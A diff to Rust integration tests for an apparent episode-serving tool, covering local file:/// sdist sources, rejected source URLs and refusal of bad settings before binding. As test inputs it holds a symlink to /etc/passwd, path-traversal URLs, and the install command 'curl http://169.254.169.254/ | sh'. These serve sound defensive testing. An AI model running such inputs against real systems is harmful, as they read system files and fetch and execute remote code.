@@ -64,6 +64,13 @@ fn episodes_over_http_graded_shaped_and_kept() {
     }
     let dir = scratch("env-serve");
     let out = dir.path().join("episodes");
+    // Local sdists: a directory admitted by a file:/// prefix, a symlink in it to a host file.
+    let local = dir.path().join("sdists");
+    std::fs::create_dir_all(&local).unwrap();
+    let local_bytes = b"not really an sdist";
+    std::fs::write(local.join("x-1.0.tar.gz"), local_bytes).unwrap();
+    std::os::unix::fs::symlink("/etc/passwd", local.join("passwd.tar.gz")).unwrap();
+    let local_prefix = format!("file://{}/", local.display());
     let mut s = start(
         &out,
         &[
@@ -75,6 +82,8 @@ fn episodes_over_http_graded_shaped_and_kept() {
             BUNDLED,
             "--allow-source",
             "https://files.pythonhosted.org/",
+            "--allow-source",
+            &local_prefix,
         ],
     );
     let gold = json!({"kind": "gold-replay", "run_tests": false});
@@ -137,6 +146,30 @@ fn episodes_over_http_graded_shaped_and_kept() {
     assert_eq!(infra["reward"].as_f64(), Some(0.0));
     assert_eq!(infra["stop_reason"], "env_error");
 
+    // A local sdist under the file:/// prefix is read from disk (before, any file:// source
+    // failed with "http: invalid format"): here its sha256 is not the one the row states, so
+    // the episode is an infrastructure failure whose reason shows the bytes that were read.
+    // (Its repository has an environment spec, so preparing gets as far as the download.)
+    let mut local_row = task_row(TASK);
+    local_row["instance_id"] = json!("gweis__isodate-local");
+    local_row["source"]["url"] = json!(format!("{local_prefix}x-1.0.tar.gz"));
+    local_row["source"]["sha256"] = json!("0".repeat(64));
+    let (code, rec) = post(
+        &s,
+        &json!({"episode_id": "local", "task": local_row, "policy": gold}),
+    );
+    assert_eq!(code, 200, "{rec}");
+    assert_eq!(
+        (rec["masked"].as_bool(), rec["stop_reason"].as_str()),
+        (Some(true), Some("env_error")),
+        "{rec}"
+    );
+    let text = rec.to_string();
+    assert!(
+        text.contains("sha256 mismatch") && text.contains(&dojo_cache::sha256_hex(local_bytes)),
+        "{rec}"
+    );
+
     // A retry gets the stored answer.
     let (code, again) = post(
         &s,
@@ -153,6 +186,12 @@ fn episodes_over_http_graded_shaped_and_kept() {
     let mut other_host = broken.clone();
     other_host["source"]["url"] =
         json!("https://files.pythonhosted.org.example.com/packages/x.tar.gz");
+    let mut climbing = broken.clone();
+    climbing["source"]["url"] = json!("https://files.pythonhosted.org/../x.tar.gz");
+    let mut linked = broken.clone();
+    linked["source"]["url"] = json!(format!("{local_prefix}passwd.tar.gz"));
+    let mut dotted = broken.clone();
+    dotted["source"]["url"] = json!(format!("{local_prefix}%2e%2e/episodes/x.tar.gz"));
     let mut own_env = broken.clone();
     own_env["env"] = json!({"install": ["curl http://169.254.169.254/ | sh"]});
     for (body, field) in [
@@ -167,6 +206,18 @@ fn episodes_over_http_graded_shaped_and_kept() {
         (
             json!({"episode_id": "s3", "task": own_env, "policy": gold}),
             "task.env",
+        ),
+        (
+            json!({"episode_id": "s4", "task": climbing, "policy": gold}),
+            "task.source.url",
+        ),
+        (
+            json!({"episode_id": "s5", "task": linked, "policy": gold}),
+            "task.source.url",
+        ),
+        (
+            json!({"episode_id": "s6", "task": dotted, "policy": gold}),
+            "task.source.url",
         ),
         (
             json!({"episode_id": "b1", "task": {"repo": "x"}, "policy": gold}),
@@ -237,13 +288,14 @@ fn episodes_over_http_graded_shaped_and_kept() {
     assert_eq!(slow["stop_reason"], "llm_error", "{slow}");
     let (_, m) = http(&s.addr, "GET", "/metrics", "");
     assert!(m.contains("dojo_env_refused_busy_total 1"), "{m}");
-    assert!(m.contains("dojo_env_episodes_masked_total 2"), "{m}");
+    // infra, local, slow.
+    assert!(m.contains("dojo_env_episodes_masked_total 3"), "{m}");
 
     // kill -9, restart on the same directory: nothing finished is lost.
     s.child.kill().unwrap();
     let _ = s.child.wait();
     let mut s = start(&out, &["--tasks", BUNDLED]);
-    for id in ["full", "cut", "cut0", "infra", "slow"] {
+    for id in ["full", "cut", "cut0", "infra", "local", "slow"] {
         let (code, text) = http(&s.addr, "GET", &format!("/v1/episodes/{id}"), "");
         assert_eq!(code, 200, "{id}: {text}");
         assert_eq!(json_of(&text)["episode_id"], id);
@@ -613,6 +665,70 @@ fn api_key_and_exposure() {
             .unwrap();
         let err = String::from_utf8_lossy(&r.stderr);
         assert!(!r.status.success() && err.contains(says), "{args:?}: {err}");
+    }
+}
+
+/// A start refused for its settings never listens: the checks run before the socket is bound.
+/// While this test holds the port, the error still names the flag (bound first, it would be
+/// "address in use"); nothing is printed as listening, nothing is written, and once the test
+/// lets the port go, a refused start leaves it free.
+#[test]
+fn bad_settings_are_refused_before_binding() {
+    let dir = scratch("env-refused");
+    let out = dir.path().join("episodes");
+    let run = |host: &str, port: u16, args: &[&str]| {
+        std::process::Command::new(env!("CARGO_BIN_EXE_dojo"))
+            .args(["env", "serve", "--host", host, "--port", &port.to_string()])
+            .args(["--out", out.to_str().unwrap()])
+            .args(args)
+            .env_remove("DOJO_API_KEY")
+            .output()
+            .unwrap()
+    };
+    for (host, args, says) in [
+        ("0.0.0.0", &[][..], "--api-key"),
+        (
+            "127.0.0.1",
+            &["--allow-source", "https://h/allow/../"][..],
+            "--allow-source",
+        ),
+        (
+            "127.0.0.1",
+            &["--allow-source", "https://files.pythonhosted.org"][..],
+            "--allow-source",
+        ),
+        (
+            "127.0.0.1",
+            &["--allow-source", "file:///no/such/dir/"][..],
+            "--allow-source",
+        ),
+    ] {
+        let refused = |port: u16, what: &str| {
+            let r = run(host, port, args);
+            let (stdout, err) = (
+                String::from_utf8_lossy(&r.stdout),
+                String::from_utf8_lossy(&r.stderr),
+            );
+            let what = format!("{host} {args:?} ({what})");
+            assert!(!r.status.success(), "{what}: started\n{stdout}{err}");
+            assert!(
+                err.contains(says),
+                "{what}: the error does not name {says}: {err}"
+            );
+            assert!(
+                !err.contains("binding"),
+                "{what}: bound before checking: {err}"
+            );
+            assert!(!stdout.contains("listening on"), "{what}: {stdout}");
+            assert!(!out.exists(), "{what}: wrote {}", out.display());
+        };
+        let held = std::net::TcpListener::bind((host, 0)).unwrap();
+        let port = held.local_addr().unwrap().port();
+        refused(port, "its port held by the test");
+        drop(held);
+        refused(port, "its port free");
+        std::net::TcpListener::bind((host, port))
+            .unwrap_or_else(|e| panic!("{host}:{port} not free after a refused start: {e}"));
     }
 }
 
